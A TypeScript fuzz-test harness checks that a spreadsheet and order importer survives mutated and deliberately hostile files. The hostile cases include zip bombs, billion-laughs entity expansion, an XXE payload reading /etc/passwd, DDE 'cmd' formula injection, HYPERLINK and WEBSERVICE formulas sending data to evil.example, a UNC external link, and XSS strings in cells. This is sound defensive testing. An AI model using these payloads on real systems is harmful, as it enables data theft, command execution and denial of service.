// Fuzzing the spreadsheet reader and the order importer with mutated real files and hand-made
// hostile ones (zip bombs, deep XML, entity expansion, huge shared-string tables, formulas,
// external links, absurd sheet dimensions). Each file runs in a child process with a 10 s limit
// and a 1 GB heap; it must be read or refused with a Chinese message, never crash, hang or bloat.
import { fork, type ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import * as XLSX from '@e965/xlsx';
import { randomSource } from '../../electron/services/synthetic';
import { zipArchive } from '../fixtures/zipArchive';
import { csvGbk, csvUtf8, platformRows, workbookBytes } from '../fixtures/makeImportFixtures';
import { bundledScript } from './children';
import type { FuzzReply, FuzzTarget, TargetResult } from './fuzzChild';

const TARGETS: readonly FuzzTarget[] = ['readSheetRows', 'imports.commit'];

export const CASE_TIMEOUT_MS = 10_000;
export const MEMORY_LIMIT_MB = 1024;

export interface FuzzCase { name: string; fileName: string; bytes: Buffer }

// ---------------------------------------------------------------- real files

function bigPlatformRows(n: number): unknown[][] {
  const rows = platformRows();
  const body = rows.slice(2);
  const out: unknown[][] = rows.slice(0, 2);
  for (let i = 0; i < n; i++) {
    const r = [...body[i % body.length]];
    r[0] = `FZ${String(i).padStart(6, '0')}`;
    out.push(r);
  }
  return out;
}

export function seedFiles(): FuzzCase[] {
  const rows = bigPlatformRows(40) as never;
  return [
    { name: 'xlsx', fileName: 'orders.xlsx', bytes: workbookBytes(rows) },
    { name: 'xls', fileName: 'orders.xls', bytes: workbookBytes(rows, 'biff8') },
    { name: 'csv-utf8', fileName: 'orders.csv', bytes: csvUtf8() },
    { name: 'csv-gbk', fileName: 'orders.csv', bytes: csvGbk() },
  ];
}

// ---------------------------------------------------------------- mutations

type Rnd = () => number;
const pick = <T,>(rnd: Rnd, items: readonly T[]): T => items[Math.floor(rnd() * items.length)];
const int = (rnd: Rnd, n: number) => Math.floor(rnd() * n);

function mutateBytes(rnd: Rnd, src: Buffer): Buffer {
  const b = Buffer.from(src);
  switch (int(rnd, 4)) {
    case 0: { // flip a few bytes
      for (let i = 0, n = 1 + int(rnd, 16); i < n; i++) b[int(rnd, b.length)] = int(rnd, 256);
      return b;
    }
    case 1: // truncate
      return b.subarray(0, int(rnd, b.length));
    case 2: { // copy a chunk over another place
      const from = int(rnd, b.length), len = int(rnd, 512), to = int(rnd, b.length);
      b.copy(b, to, from, Math.min(b.length, from + len));
      return b;
    }
    default: { // insert random bytes
      const at = int(rnd, b.length);
      const junk = Buffer.from(Array.from({ length: 1 + int(rnd, 64) }, () => int(rnd, 256)));
      return Buffer.concat([b.subarray(0, at), junk, b.subarray(at)]);
    }
  }
}

const XML_EDITS: ((rnd: Rnd, s: string) => string)[] = [
  (rnd, s) => { const a = int(rnd, s.length); return s.slice(0, a) + s.slice(a + int(rnd, 200)); }, // delete a span
  (rnd, s) => { const a = int(rnd, s.length), l = int(rnd, 400); return s.slice(0, a) + s.slice(a, a + l).repeat(1 + int(rnd, 50)) + s.slice(a); }, // repeat a span
  (_rnd, s) => s.replace(/r="([A-Z]+)(\d+)"/, 'r="XFD1048576"'), // a cell at the far corner
  (_rnd, s) => s.replace(/ref="[^"]*"/, 'ref="A1:XFD1048576"'), // an absurd dimension
  (rnd, s) => s.replace(/<v>[^<]*<\/v>/, pick(rnd, ['<v>1e308</v>', '<v>-1e308</v>', '<v>NaN</v>', '<v>99999999999999999999999</v>', '<v></v>'])),
  (rnd, s) => { const a = int(rnd, s.length); return s.slice(0, a) + pick(rnd, ['<', '>', '&', '&#0;', '&#xFFFF;', ']]>', '<![CDATA[', '"', '\u0000']) + s.slice(a); },
  (_rnd, s) => s.replace(/t="s"/, 't="s" s="999999"').replace(/<v>0<\/v>/, '<v>4294967295</v>'), // a style and string index past the end
  (_rnd, s) => s.replace(/<c /, '<c t="e" ').replace(/<c /g, (m) => m), // an error-typed cell
];

/** Unzips an xlsx (SheetJS's own zip reader), edits one XML part as text, zips it again. */
function mutateZipEntry(rnd: Rnd, src: Buffer): Buffer | null {
  interface ZipContainer { FileIndex: { type: number; content?: Uint8Array }[]; FullPaths: string[] }
  let cfb: ZipContainer;
  try {
    cfb = XLSX.CFB.read(src, { type: 'buffer' }) as ZipContainer;
  } catch {
    return null;
  }
  const files: [string, Buffer][] = [];
  for (let i = 0; i < cfb.FileIndex.length; i++) {
    const entry = cfb.FileIndex[i];
    if (entry.type !== 2 || !entry.content) continue;
    files.push([cfb.FullPaths[i].replace(/^[^/]*\//, ''), Buffer.from(entry.content)]);
  }
  const xml = files.filter(([n]) => n.endsWith('.xml'));
  if (xml.length === 0) return null;
  const target = pick(rnd, xml);
  let text = target[1].toString('utf8');
  for (let i = 0, n = 1 + int(rnd, 3); i < n; i++) text = pick(rnd, XML_EDITS)(rnd, text);
  target[1] = Buffer.from(text, 'utf8');
  return zipArchive(files);
}

function mutateCsv(rnd: Rnd, src: Buffer): Buffer {
  const text = src.toString('latin1');
  const a = int(rnd, text.length);
  const junk = pick(rnd, ['"', '""', '\r', '\n', ',', '\u0000', '=cmd|\' /C calc\'!A0', '"'.repeat(1000), ','.repeat(20000), '\uFEFF', '\xff\xfe']);
  return Buffer.from(text.slice(0, a) + junk + text.slice(a), 'latin1');
}

export function mutatedCase(rnd: Rnd, seeds: readonly FuzzCase[], n: number): FuzzCase {
  const seed = pick(rnd, seeds);
  let bytes: Buffer | null = null;
  let how = 'bytes';
  if (seed.name === 'xlsx' && rnd() < 0.6) { bytes = mutateZipEntry(rnd, seed.bytes); how = 'xml'; }
  else if (seed.name.startsWith('csv') && rnd() < 0.5) { bytes = mutateCsv(rnd, seed.bytes); how = 'csv'; }
  if (!bytes) { bytes = mutateBytes(rnd, seed.bytes); how = 'bytes'; }
  if (rnd() < 0.3) bytes = mutateBytes(rnd, bytes);
  return { name: `mutated-${seed.name}-${how}-${n}`, fileName: seed.fileName, bytes };
}

// ---------------------------------------------------------------- hostile files

const CONTENT_TYPES = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>';
const ROOT_RELS = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>';
const WORKBOOK = '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="工单" sheetId="1" r:id="rId1"/></sheets></workbook>';
const WB_RELS = (extra = '') => `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>${extra}</Relationships>`;
const SHEET = (body: string, ref = 'A1:C3', head = '') => `<?xml version="1.0" encoding="UTF-8"?>${head}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="${ref}"/><sheetData>${body}</sheetData></worksheet>`;
const HEADER_ROW = '<row r="1"><c r="A1" t="inlineStr"><is><t>工单编号</t></is></c><c r="B1" t="inlineStr"><is><t>受理时间</t></is></c><c r="C1" t="inlineStr"><is><t>诉求内容</t></is></c></row>';
const ORDER_ROW = (r: number, content: string) => `<row r="${r}"><c r="A${r}" t="inlineStr"><is><t>HX${r}</t></is></c><c r="B${r}" t="inlineStr"><is><t>2024-03-01 08:00:00</t></is></c><c r="C${r}" t="inlineStr"><is><t>${content}</t></is></c></row>`;

function xlsxOf(sheet: string, sst = '<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" uniqueCount="0"/>', extra: [string, Buffer][] = [], wbRelsExtra = ''): Buffer {
  return zipArchive([
    ['[Content_Types].xml', Buffer.from(CONTENT_TYPES)],
    ['_rels/.rels', Buffer.from(ROOT_RELS)],
    ['xl/workbook.xml', Buffer.from(WORKBOOK)],
    ['xl/_rels/workbook.xml.rels', Buffer.from(WB_RELS(wbRelsExtra))],
    ['xl/worksheets/sheet1.xml', Buffer.from(sheet)],
    ['xl/sharedStrings.xml', Buffer.from(sst)],
    ...extra,
  ]);
}

/** A zip whose entry claims `claimed` bytes but inflates to `real` bytes of one letter. */
function lyingZipBomb(real: number, claimed: number): Buffer {
  const honest = zipArchive([
    ['[Content_Types].xml', Buffer.from(CONTENT_TYPES)],
    ['xl/workbook.xml', Buffer.from(WORKBOOK)],
    ['xl/worksheets/sheet1.xml', Buffer.alloc(real, 0x20)],
  ]);
  // Rewrite the uncompressed size of the sheet in its local header and central directory entry.
  const b = Buffer.from(honest);
  for (let i = 0; i + 4 <= b.length; i++) {
    const sig = b.readUInt32LE(i);
    if (sig === 0x04034b50 && b.readUInt32LE(i + 22) === real) b.writeUInt32LE(claimed, i + 22);
    if (sig === 0x02014b50 && b.readUInt32LE(i + 24) === real) b.writeUInt32LE(claimed, i + 24);
  }
  return b;
}

export function hostileFiles(): FuzzCase[] {
  const cases: FuzzCase[] = [];
  const add = (name: string, fileName: string, bytes: Buffer) => cases.push({ name, fileName, bytes });

  add('zip-bomb-300MB', 'bomb.xlsx', zipArchive([
    ['[Content_Types].xml', Buffer.from(CONTENT_TYPES)],
    ['xl/worksheets/sheet1.xml', Buffer.alloc(300 * 1024 * 1024, 0x20)],
  ]));
  add('zip-bomb-lying-sizes-300MB', 'bomb2.xlsx', lyingZipBomb(300 * 1024 * 1024, 1000));
  add('zip-many-entries', 'entries.xlsx', zipArchive(Array.from({ length: 20000 }, (_, i) => [`xl/x${i}.xml`, Buffer.from('<a/>')] as [string, Buffer])));

  const depth = 200_000;
  add('deeply-nested-xml', 'nested.xlsx', xlsxOf(SHEET(HEADER_ROW + '<row r="2"><c r="A2" t="inlineStr"><is><t>' + '<a>'.repeat(depth) + 'x' + '</a>'.repeat(depth) + '</t></is></c></row>')));
  const laughs = '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
    Array.from({ length: 8 }, (_, i) => `<!ENTITY lol${i + 2} "${`&lol${i + 1};`.repeat(10)}">`).join('') + ']>';
  add('billion-laughs-sheet', 'laughs.xlsx', xlsxOf(SHEET(HEADER_ROW + ORDER_ROW(2, '&lol9;'), 'A1:C2', laughs)));
  add('billion-laughs-sst', 'laughs2.xlsx', xlsxOf(SHEET(HEADER_ROW + '<row r="2"><c r="A2" t="s"><v>0</v></c></row>'),
    `<?xml version="1.0"?>${laughs}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>`));
  add('external-entity', 'xxe.xlsx', xlsxOf(SHEET(HEADER_ROW + ORDER_ROW(2, '&xxe;'), 'A1:C2', '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')));

  const strings = 400_000;
  const sst = `<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="${strings}" uniqueCount="${strings}">${Array.from({ length: strings }, (_, i) => `<si><t>诉求内容第${i}条</t></si>`).join('')}</sst>`;
  add('huge-shared-strings', 'sst.xlsx', xlsxOf(SHEET(HEADER_ROW + '<row r="2"><c r="A2" t="s"><v>399999</v></c></row>'), sst));

  add('formula-cells', 'formulas.xlsx', xlsxOf(SHEET(HEADER_ROW +
    '<row r="2"><c r="A2" t="inlineStr"><is><t>FX1</t></is></c><c r="B2" t="inlineStr"><is><t>2024-03-01 08:00:00</t></is></c><c r="C2" t="str"><f>cmd|\' /C calc\'!A0</f><v>=cmd|\' /C calc\'!A0</v></c></row>' +
    '<row r="3"><c r="A3" t="inlineStr"><is><t>FX2</t></is></c><c r="B3" t="inlineStr"><is><t>2024-03-01 08:00:00</t></is></c><c r="C3" t="str"><f>HYPERLINK("http://evil.example/steal?"&amp;A1,"点此")</f><v>点此</v></c></row>' +
    '<row r="4"><c r="A4" t="inlineStr"><is><t>FX3</t></is></c><c r="B4" t="inlineStr"><is><t>2024-03-01 08:00:00</t></is></c><c r="C4"><f>WEBSERVICE("http://evil.example/")</f><v>0</v></c></row>', 'A1:C4')));
  add('external-link', 'extlink.xlsx', xlsxOf(SHEET(HEADER_ROW + '<row r="2"><c r="A2" t="inlineStr"><is><t>EX1</t></is></c><c r="B2" t="inlineStr"><is><t>2024-03-01 08:00:00</t></is></c><c r="C2"><f>[1]Sheet1!A1</f><v>0</v></c></row>', 'A1:C2'),
    undefined,
    [['xl/externalLinks/externalLink1.xml', Buffer.from('<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>')],
     ['xl/externalLinks/_rels/externalLink1.xml.rels', Buffer.from('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///\\\\evil.example\\share\\x.xlsx" TargetMode="External"/></Relationships>')]],
    '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'));
  add('absurd-dimension', 'dimension.xlsx', xlsxOf(SHEET(HEADER_ROW + '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>角落</t></is></c></row>', 'A1:XFD1048576')));
  add('cell-past-excel-columns', 'wide.xlsx', xlsxOf(SHEET(HEADER_ROW + '<row r="2"><c r="CZZZZ2" t="inlineStr"><is><t>远处</t></is></c></row>', 'A1:C2')));
  add('script-in-cells', 'script.xlsx', xlsxOf(SHEET(HEADER_ROW + ORDER_ROW(2, '&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;'), 'A1:C2')));
  add('csv-one-huge-line', 'line.csv', Buffer.from('工单编号,受理时间,诉求内容\nHL1,2024-03-01 08:00:00,' + 'x'.repeat(40 * 1024 * 1024)));
  add('csv-100k-columns', 'wide.csv', Buffer.from('工单编号,受理时间\n' + ','.repeat(100_000) + '\n'));
  add('csv-unbalanced-quotes', 'quotes.csv', Buffer.from('工单编号,受理时间\n"Q1,2024-03-01\n'.repeat(2) + '"'.repeat(200_000)));
  add('not-a-spreadsheet', 'random.xlsx', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) & 0xff)));
  add('xls-garbage-cfb', 'broken.xls', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(4096, 0xff)]));
  return cases;
}

// ---------------------------------------------------------------- the runner

export interface CaseOutcome {
  name: string;
  results: TargetResult[];
  /** Set when the case broke a rule: a crash, a hang, too much memory, a changed ledger. */
  failure?: string;
}

export interface FuzzReport {
  cases: number;
  /** target → outcome → count (outcomes: read, refused, crashed, hung, memory). */
  outcomes: Record<string, Record<string, number>>;
  failures: string[];
  slowestMs: number;
  peakRssMb: number;
  ms: number;
}

class FuzzWorker {
  private child!: ChildProcess;
  private ready!: Promise<void>;
  constructor(private readonly script: string, private readonly dir: string) {
    this.start();
  }
  private start() {
    this.child = fork(this.script, [], { execArgv: [`--max-old-space-size=${MEMORY_LIMIT_MB}`], stdio: ['ignore', 'ignore', 'pipe', 'ipc'], serialization: 'json' });
    this.child.stderr!.resume();
    this.ready = new Promise((resolve) => this.child.once('message', () => resolve()));
  }
  /** One file through one target, within CASE_TIMEOUT_MS. */
  async run(c: FuzzCase, id: number, target: FuzzTarget): Promise<{ reply?: FuzzReply; dead?: string }> {
    await this.ready;
    const file = path.join(this.dir, `case-${id}-${c.fileName}`);
    fs.writeFileSync(file, c.bytes);
    try {
      return await new Promise((resolve) => {
        const timer = setTimeout(() => {
          cleanup();
          this.child.kill('SIGKILL');
          resolve({ dead: 'hung' });
        }, CASE_TIMEOUT_MS);
        const onMessage = (m: FuzzReply) => { if (m.id === id) { cleanup(); resolve({ reply: m }); } };
        const onExit = (code: number | null, signal: string | null) => { cleanup(); resolve({ dead: `exited (${signal ?? code}) — out of memory or a native crash` }); };
        const cleanup = () => { clearTimeout(timer); this.child.off('message', onMessage); this.child.off('exit', onExit); };
        this.child.on('message', onMessage);
        this.child.once('exit', onExit);
        this.child.send({ id, file, fileName: c.fileName, target });
      });
    } finally {
      fs.rmSync(file, { force: true });
    }
  }
  restart() {
    if (this.child.exitCode === null) this.child.kill('SIGKILL');
    this.start();
  }
  stop() {
    if (this.child.connected) this.child.disconnect();
  }
}

/** Runs the seed and hostile files, then mutated ones for `seconds`. */
export async function runFuzz(opts: { seconds: number; seed?: number; workDir: string; hostile?: boolean; log?: (s: string) => void }): Promise<FuzzReport> {
  const started = Date.now();
  fs.mkdirSync(opts.workDir, { recursive: true });
  const worker = new FuzzWorker(bundledScript('fuzzChild'), opts.workDir);
  const report: FuzzReport = { cases: 0, outcomes: {}, failures: [], slowestMs: 0, peakRssMb: 0, ms: 0 };
  const count = (target: string, outcome: string) => {
    const t = (report.outcomes[target] ??= {});
    t[outcome] = (t[outcome] ?? 0) + 1;
  };
  const rnd = randomSource(opts.seed ?? 20261123);
  const seeds = seedFiles();
  const fixed = [...seeds, ...(opts.hostile === false ? [] : hostileFiles())];
  let mutationsFrom = 0;
  try {
    for (let id = 0; ; id++) {
      if (id === fixed.length) mutationsFrom = Date.now();
      // The fixed files always run; mutated ones for `seconds`.
      if (id >= fixed.length && Date.now() - mutationsFrom > opts.seconds * 1000) break;
      const c = id < fixed.length ? fixed[id] : mutatedCase(rnd, seeds, id);
      report.cases++;
      const results: TargetResult[] = [];
      for (const target of TARGETS) {
        const t = Date.now();
        const { reply, dead } = await worker.run(c, id, target);
        report.slowestMs = Math.max(report.slowestMs, Date.now() - t);
        if (dead) {
          count(target, dead === 'hung' ? 'hung' : 'memory');
          report.failures.push(`${c.name} → ${target}: ${dead === 'hung' ? `超过 ${CASE_TIMEOUT_MS / 1000} 秒未结束` : dead}`);
          fs.writeFileSync(path.join(opts.workDir, `failed-${c.name}-${c.fileName}`), c.bytes); // kept to reproduce
          results.push({ target, outcome: 'crashed', message: dead, ms: Date.now() - t });
          worker.restart();
          continue;
        }
        report.peakRssMb = Math.max(report.peakRssMb, reply!.maxRssMb);
        if (reply!.maxRssMb > MEMORY_LIMIT_MB) {
          report.failures.push(`${c.name} → ${target}: 内存 ${reply!.maxRssMb} MB`);
          worker.restart();
        }
        for (const r of reply!.results) {
          results.push(r);
          count(r.target, r.outcome);
          if (r.outcome === 'crashed') {
            report.failures.push(`${c.name} → ${r.target}: ${r.message}`);
            fs.writeFileSync(path.join(opts.workDir, `failed-${c.name}-${c.fileName}`), c.bytes);
          }
        }
      }
      if (id < fixed.length) opts.log?.(`  ${c.name}: ${results.map((r) => `${r.target} ${r.outcome}${r.message ? `（${r.message.slice(0, 80)}）` : ''} ${r.ms} ms`).join('；')}`);
    }
  } finally {
    worker.stop();
  }
  report.ms = Date.now() - started;
  return report;
}
